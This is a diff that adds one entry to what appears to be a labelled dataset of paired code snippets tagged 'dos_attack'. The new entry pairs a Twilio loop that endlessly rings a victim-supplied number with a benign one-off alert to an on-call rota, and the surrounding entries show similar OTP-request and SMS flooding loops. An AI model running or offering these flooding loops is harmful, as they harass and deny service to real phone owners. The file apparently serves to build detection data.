@@ -376,6 +376,11 @@ PAIRS = [
      "while True:\n    requests.post('https://shop.example.com/api/auth/send-otp', json=form)\n    time.sleep(5)",
      "import requests\nnumber = input('number: ')\nform = {'cellphone': '+1' + number}\nwhile True:\n"
      "    r = requests.post('https://shop.example.com/api/auth/send-otp', json=form)\n    if r.ok:\n        break"),
+    ("message storm: a voice-call API ringing one number again and again", "dos_attack",
+     "from twilio.rest import Client\nclient = Client(SID, TOKEN)\nvictim_number = input('number: ')\nwhile True:\n"
+     "    client.calls.create(to=victim_number, from_=OUR_LINE, url='https://example.org/twiml.xml')",
+     "from twilio.rest import Client\nclient = Client(SID, TOKEN)\nfor phone_number in ON_CALL_ROTA:\n"
+     "    client.calls.create(to=phone_number, from_=OUR_LINE, url='https://example.org/alert.xml')"),
     ("message storm: each sender of a list, picked by index, texts one number", "dos_attack",
      "from senders import All\nphone_number = input('phone: ')\nwhile True:\n    for i in range(len(All)):\n"
      "        All[i][1].send(phone_number)",
